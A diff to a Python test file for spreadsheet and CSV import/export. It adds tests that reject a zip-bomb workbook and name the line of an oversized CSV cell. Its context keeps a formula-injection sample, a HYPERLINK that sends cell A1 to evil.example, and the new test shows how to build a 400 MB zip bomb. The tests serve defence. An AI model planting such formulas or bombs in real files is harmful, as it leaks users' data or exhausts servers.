@@ -2,6 +2,7 @@
 
 import csv
 import io
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -10,7 +11,7 @@ from openpyxl import Workbook, load_workbook
 from api.worklogs import csv_file
 from cases.report import to_xlsx
 from db.cells import FORMULA_START, csv_value, xlsx_row
-from registers.tabular import write_table
+from registers.tabular import FileProblem, read_table, write_table
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -84,3 +85,26 @@ def test_the_monthly_report_workbook_holds_no_formula() -> None:
     cells = _cells(to_xlsx(report, "Asia/Shanghai"))
     assert "f" not in {kind for kind, _ in cells}
     assert EVIL[0] in {value for _, value in cells}  # written as typed, as text
+
+
+def test_a_zip_bomb_workbook_is_refused_from_its_directory_alone(tmp_path: Path) -> None:
+    # One text of 400 MB packs into well under a megabyte; its size is read from the zip directory, never unpacked.
+    path = tmp_path / "bomb.xlsx"
+    book = Workbook()
+    book.active.append(["name"])  # type: ignore[union-attr]
+    book.save(path)
+    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z, z.open("xl/sharedStrings.xml", "w") as f:
+        chunk = b"A" * 2**20
+        for _ in range(400):
+            f.write(chunk)
+    assert path.stat().st_size < 2**20
+    with pytest.raises(FileProblem, match="unpacks to 400 MB"):
+        read_table(path)
+
+
+def test_a_csv_cell_over_the_limit_names_its_line(tmp_path: Path) -> None:
+    path = tmp_path / "people.csv"
+    path.write_text("name,note\n李四,x\n王五," + "x" * (csv.field_size_limit() + 1) + "\n", encoding="utf-8")
+    header, rows = read_table(path)
+    with pytest.raises(FileProblem, match="line 3"):
+        list(rows)
